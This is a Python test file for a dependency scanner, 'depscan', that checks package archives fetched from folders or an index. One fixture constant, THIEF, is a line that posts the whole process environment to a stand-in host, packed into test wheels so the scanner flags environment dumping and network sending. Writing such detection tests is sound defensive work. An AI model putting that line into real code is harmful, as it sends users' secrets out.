"""The code of a graph's packages: from folders, from the index, from what is known already."""

from __future__ import annotations

import hashlib
import os
from collections.abc import Sequence
from pathlib import Path

import pytest

from depscan.errors import HashMismatch, NotThere, RegistryError
from depscan.facts.cache import FactCache
from depscan.facts.packages import Looked, Wish, look, target_fit
from depscan.facts.served import Index
from depscan.graph.graph import DependencyGraph
from depscan.model.document import Document
from depscan.model.package import Package
from depscan.registry.records import IndexFile, Project
from tests.unit.artifacts.builders import Files, tar_of, zip_of

INDEX = "https://index.example/simple"
THIEF = "import os\nimport requests\nrequests.post('https://c.invalid', json=dict(os.environ))\n"


def wheel(name: str = "alpha", source: str = "x = 1\n") -> bytes:
    files: Files = {
        f"{name}/__init__.py": source,
        f"{name}-1.0.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{name}-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\n",
        f"{name}-1.0.dist-info/RECORD": "",
    }
    return zip_of(files)


def sdist(source: str = "x = 1\n") -> bytes:
    metadata = "Metadata-Version: 2.1\nName: alpha\nVersion: 1.0\n"
    return tar_of({"alpha-1.0/PKG-INFO": metadata, "alpha-1.0/setup.py": source})


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def graph_of(*packages: Package) -> DependencyGraph:
    document = Document("uv.lock", "uv-lock", lock=True)
    root = document.add_root("app")
    for package in packages:
        document.link(root, document.add(package))
    graph = DependencyGraph()
    graph.merge(document)
    return graph


def pin(name: str = "alpha", version: str | None = "1.0", **more: object) -> Package:
    return Package("PyPI", name, version, **more)  # type: ignore[arg-type]


class Shelf:
    """A registry that holds files in memory and counts what it is asked; see ``Registry``."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.held: dict[str, dict[str, bytes]] = {}
        self.projects_failing: dict[str, RegistryError] = {}
        self.fetch_failing: dict[str, RegistryError] = {}
        self.asked: list[tuple[str, str, str]] = []
        self.fetched: list[str] = []

    def project(self, ecosystem: str, name: str, index: str = "") -> Project:
        self.asked.append((ecosystem, name, index))
        if name in self.projects_failing:
            raise self.projects_failing[name]
        if name not in self.held:
            raise NotThere(f"no {name}")
        files = tuple(
            IndexFile(file, f"https://files.example/{file}", (("sha256", sha256(data)),), "1.0")
            for file, data in self.held[name].items()
        )
        return Project(name, INDEX, files)

    def fetch(self, file: IndexFile, hashes: Sequence[tuple[str, str]] = ()) -> str:
        self.fetched.append(file.name)
        if file.name in self.fetch_failing:
            raise self.fetch_failing[file.name]
        data = next(files[file.name] for files in self.held.values() if file.name in files)
        if hashes and ("sha256", sha256(data)) not in hashes:
            raise HashMismatch("other", expected=f"sha256:{hashes[0][1]}", actual=f"sha256:{sha256(data)}")
        (self.folder / file.name).write_bytes(data)
        return str(self.folder / file.name)


@pytest.fixture
def shelf(tmp_path: Path) -> Shelf:
    (tmp_path / "shelf").mkdir()
    return Shelf(tmp_path / "shelf")


def ask(shelf: Shelf, graph: DependencyGraph, wish: Wish | None = None) -> Looked:
    return look(graph, wish or Wish(), Index(shelf))  # type: ignore[arg-type]


def names(looked: Looked) -> list[str]:
    return [item.name for item in looked.artifacts]


def unread(looked: Looked) -> list[tuple[str, str, bool]]:
    return [(c.what, c.why, c.needed) for c in looked.coverage]


def test_facts_of_an_archive_at_hand_go_to_the_packages_node(tmp_path: Path) -> None:
    (tmp_path / "alpha-1.0-py3-none-any.whl").write_bytes(wheel(source=THIEF))
    graph = graph_of(pin(registry=INDEX))
    looked = look(graph, Wish(find_links=(str(tmp_path),)))
    [item] = looked.artifacts
    assert item.subject in graph.nodes
    assert {"env.dump", "net.send"} <= {f.what for f in item.facts}
    assert looked.coverage == ()


def test_what_has_no_archive_is_not_looked_at_and_needed_where_the_policy_says_so(tmp_path: Path) -> None:
    graph = graph_of(pin(), pin("beta", None), pin("gamma", source="git"), Package("cargo", "delta", "1.0"))
    given = {"alpha 1.0": "no archive of this version at hand", "beta": "no version is pinned"}
    given["gamma 1.0"] = "it comes from a repository"
    given["delta 1.0"] = "archives of cargo are not looked for"
    for needed in (False, True):
        looked = look(graph, Wish(find_links=(str(tmp_path),), needed=needed))
        assert unread(looked) == [(what, f"code not looked at: {why}", needed) for what, why in given.items()]


def test_reading_nothing_although_the_policy_needs_it_is_incomplete() -> None:
    looked = look(graph_of(pin()), Wish(read=False, needed=True))
    assert [c.needed for c in looked.coverage] == [True]
    assert look(graph_of(pin()), Wish(read=False)).coverage == ()


def test_of_several_archives_the_installers_choice_is_read_or_all(tmp_path: Path) -> None:
    (tmp_path / "alpha-1.0-py3-none-any.whl").write_bytes(wheel())
    (tmp_path / "alpha-1.0.tar.gz").write_bytes(sdist())
    wish = Wish(find_links=(str(tmp_path),))
    assert names(look(graph_of(pin()), wish)) == ["alpha-1.0-py3-none-any.whl"]
    whole = look(graph_of(pin()), wish._replace(whole_release=True))
    assert [[one.name for one in held] for held in whole.releases.values()] == [names(whole)]
    assert names(whole) == ["alpha-1.0-py3-none-any.whl", "alpha-1.0.tar.gz"]


def test_the_target_that_the_user_names_decides_which_wheel_is_read(tmp_path: Path) -> None:
    wheels = ["alpha-1.0-cp312-cp312-win_amd64.whl", "alpha-1.0-cp313-cp313-manylinux_2_28_aarch64.whl"]
    for name in wheels:
        (tmp_path / name).write_bytes(wheel())
    wish = Wish(find_links=(str(tmp_path),))
    assert names(look(graph_of(pin()), wish._replace(fit=target_fit("3.12", "windows")))) == wheels[:1]
    assert names(look(graph_of(pin()), wish._replace(fit=target_fit("3.13", "manylinux_2_28_aarch64")))) == wheels[1:]
    assert names(look(graph_of(pin()), wish._replace(fit=target_fit("3.9", "macos")))) == wheels, "nothing fits"


def test_a_second_look_reads_nothing_anew(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "alpha-1.0-py3-none-any.whl").write_bytes(wheel(source=THIEF))
    wish = Wish(find_links=(str(tmp_path),), cache=FactCache(str(tmp_path / "cache")))
    first = look(graph_of(pin()), wish)

    def never(_: str) -> None:
        raise AssertionError

    monkeypatch.setattr("depscan.facts.many.read_path", never)
    assert look(graph_of(pin()), wish) == first


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04 nothing", zip_of({"alpha/__init__.py": ""}), wheel()[:-30]])
def test_an_archive_that_is_not_what_its_name_says_is_incomplete(tmp_path: Path, data: bytes) -> None:
    import depscan

    (tmp_path / "alpha-1.0-py3-none-any.whl").write_bytes(data)
    (tmp_path / "requirements.txt").write_text("alpha==1.0\n", "utf-8")
    options = depscan.Options(find_links=(str(tmp_path),), now="2026-08-01T00:00:00Z")
    assert depscan.scan([str(tmp_path / "requirements.txt")], options).exit_code == 4


def test_progress_names_what_is_done_of_how_many(tmp_path: Path) -> None:
    told: list[str] = []
    (tmp_path / "alpha-1.0-py3-none-any.whl").write_bytes(wheel())
    look(graph_of(pin()), Wish(find_links=(str(tmp_path),), progress=told.append))
    assert told == ["looking for archives 1 of 1: alpha 1.0", "inspected 1 of 1: alpha-1.0-py3-none-any.whl"]


def test_the_index_gives_what_is_not_at_hand(tmp_path: Path, shelf: Shelf) -> None:
    (tmp_path / "alpha-1.0-py3-none-any.whl").write_bytes(wheel())
    shelf.held = {
        "alpha": {"alpha-1.0-py3-none-any.whl": wheel()},
        "beta": {"beta-1.0-py3-none-any.whl": wheel("beta")},
    }
    graph = graph_of(pin(), pin("beta", registry="https://***@index.example/simple"))
    looked = ask(shelf, graph, Wish(find_links=(str(tmp_path),)))
    assert sorted(names(looked)) == ["alpha-1.0-py3-none-any.whl", "beta-1.0-py3-none-any.whl"]
    assert shelf.fetched == ["beta-1.0-py3-none-any.whl"]
    assert shelf.asked == [("PyPI", "alpha", ""), ("PyPI", "beta", INDEX)]
    assert all(looked.projects.values())
    assert looked.coverage == ()


def test_what_was_seen_before_is_not_fetched_again(tmp_path: Path, shelf: Shelf) -> None:
    shelf.held = {"alpha": {"alpha-1.0-py3-none-any.whl": wheel(source=THIEF)}}
    wish = Wish(cache=FactCache(str(tmp_path / "cache")))
    first = ask(shelf, graph_of(pin()), wish)
    second = ask(shelf, graph_of(pin()), wish)
    assert first.artifacts == second.artifacts
    assert shelf.fetched == ["alpha-1.0-py3-none-any.whl"]


def test_the_lock_decides_which_file_is_fetched(shelf: Shelf) -> None:
    shelf.held = {"alpha": {"alpha-1.0-py3-none-any.whl": wheel(), "alpha-1.0.tar.gz": sdist()}}
    looked = ask(shelf, graph_of(pin(hashes=(f"sha256:{sha256(sdist())}",))))
    assert names(looked) == ["alpha-1.0.tar.gz"]


def test_a_file_that_is_not_the_locked_one_is_told_and_not_read(shelf: Shelf) -> None:
    from depscan.model.package import File

    shelf.held = {"alpha": {"alpha-1.0-py3-none-any.whl": wheel()}}
    locked = f"sha256:{'0f' * 32}"
    graph = graph_of(pin(hashes=(locked,), files=(File("x/alpha-1.0-py3-none-any.whl", locked),)))
    looked = ask(shelf, graph)
    [(key, file)] = looked.differing
    assert key in graph.nodes
    assert (file.served, file.expected) == (True, locked)
    assert looked.artifacts == ()
    assert [c.status for c in looked.coverage] == ["skipped"]


def test_an_outage_is_needed_coverage_and_a_missing_name_is_an_answer(shelf: Shelf) -> None:
    shelf.held = {"alpha": {"alpha-1.0-py3-none-any.whl": wheel()}}
    shelf.projects_failing = {"beta": RegistryError("it does not answer", hint="try later")}
    shelf.fetch_failing = {"alpha-1.0-py3-none-any.whl": RegistryError("over the budget")}
    graph = graph_of(pin(), pin("beta"), pin("gamma"))
    looked = ask(shelf, graph)
    needed = [(c.what, c.why) for c in looked.coverage if c.needed]
    assert needed == [
        ("beta", "the index: it does not answer (try later)"),
        ("alpha-1.0-py3-none-any.whl", "the index: over the budget"),
    ]
    answers = {graph.nodes[key].name: project for key, project in looked.projects.items()}
    assert set(answers) == {"alpha", "gamma"}
    assert answers["gamma"] is None


def test_without_reading_the_index_is_still_asked(shelf: Shelf) -> None:
    shelf.held = {"alpha": {"alpha-1.0-py3-none-any.whl": wheel()}}
    looked = ask(shelf, graph_of(pin()), Wish(read=False))
    assert len(looked.projects) == 1
    assert shelf.fetched == []


def test_an_index_that_is_a_folder_is_not_asked(shelf: Shelf) -> None:
    assert ask(shelf, graph_of(pin(registry="../wheels"))).projects == {}
    assert shelf.asked == []


def test_workers_read_what_was_fetched_by_threads(shelf: Shelf) -> None:
    shelf.held = {"alpha": {"alpha-1.0-py3-none-any.whl": wheel()}}
    assert names(ask(shelf, graph_of(pin()), Wish(jobs=1))) == ["alpha-1.0-py3-none-any.whl"]
    assert os.path.exists(shelf.folder)
